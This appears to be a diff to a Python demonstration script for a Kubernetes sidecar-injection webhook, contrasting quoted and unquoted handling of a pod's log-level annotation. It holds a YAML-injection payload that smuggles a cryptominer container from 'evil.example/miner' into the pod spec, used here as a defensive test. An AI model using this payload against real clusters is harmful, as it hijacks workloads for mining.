@@ -8,6 +8,7 @@ import contextlib
 import http.client
 import json
 import os
+import re
 import shutil
 import signal
 import ssl
@@ -37,6 +38,10 @@ PATIENCE = 30.0
 HOSTILE = "info\n  - name: miner\n    image: evil.example/miner\n    args:\n    - mine"
 """A log level that goes on as YAML: joined with the template's text it is a container of its own."""
 
+QUOTED = re.compile(r'\{\{ (.*) \| printf "--proxyLogLevel=%s" \| quote }}')
+BARE = r"--proxyLogLevel={{ \1 }}"
+"""The log level as our template has it, and as Istio's own has it."""
+
 Pod = dict[str, Any]
 
 
@@ -59,7 +64,7 @@ def main() -> int:
         say(f"https://localhost:{webhook.port}/inject, process {webhook.process.pid}")
         with webhook.client() as client:
             before_and_after(webhook, client, diff=arguments.diff)
-            hostile(client)
+            hostile(webhook.folder)
             broken_template(webhook, client)
         kept = arguments.keep
     finally:
@@ -164,23 +169,31 @@ def before_and_after(webhook: Webhook, client: http.client.HTTPSConnection, *, d
     say(f"{first * 1e3:.1f} ms the first time, then {times[REVIEWS // 2] * 1e3:.2f} ms (median of {REVIEWS})")
 
 
-def hostile(client: http.client.HTTPSConnection) -> None:
-    """Send a pod whose annotation tries to be a container; show what becomes of it here and elsewhere."""
-    scene("2. A pod whose annotation is written to add a container")
+def hostile(folder: Path) -> None:
+    """Inject a pod whose annotation tries to be a container, by a template that leaves it bare."""
+    scene("2. An annotation that is written to add a container, and a template that does not quote it")
     pod = pod_of_sample()
     pod["metadata"]["annotations"] = {"sidecar.istio.io/logLevel": HOSTILE}
     for line in f"sidecar.istio.io/logLevel: {HOSTILE}".splitlines():
         say(f"    {line}")
-    ours = names(injected(client, pod, review(pod))[0], "containers")
-    command = [*INJECTOR, "inject", "-q", "--untrusted-values", "text", "-o", "json", "-"]
-    joined = subprocess.run(
-        command, input=json.dumps(pod).encode(), stdout=subprocess.PIPE, check=True, cwd=ROOT
+    bare = folder / "unquoted.yaml"
+    bare.write_text(QUOTED.sub(BARE, (TEMPLATES / "config.yaml").read_text()))
+    files = ["--inject-config-file", bare, "--values-file", TEMPLATES / "values.yaml"]
+    ours, theirs = (
+        _containers_by_hand(pod, *files, "--untrusted-values", mode) for mode in ("scalar", "text")
     )
-    theirs = names(json.loads(joined.stdout), "containers")
     if "miner" in ours or "miner" not in theirs:
         raise SystemExit(f"the annotation made {ours} here and {theirs} of joined text")
     say(f"containers here: {click.style(', '.join(ours), fg='green')}; the annotation stays one string")
     say(f"of the joined text (--untrusted-values=text): {click.style(', '.join(theirs), fg='red')}")
+
+
+def _containers_by_hand(pod: Pod, *arguments: str | Path) -> list[str]:
+    command = [*INJECTOR, "inject", "-q", "-o", "json", *map(str, arguments), "-"]
+    printed = subprocess.run(
+        command, input=json.dumps(pod).encode(), stdout=subprocess.PIPE, check=True, cwd=ROOT
+    ).stdout
+    return names(json.loads(printed), "containers")
 
 
 def broken_template(webhook: Webhook, client: http.client.HTTPSConnection) -> None:
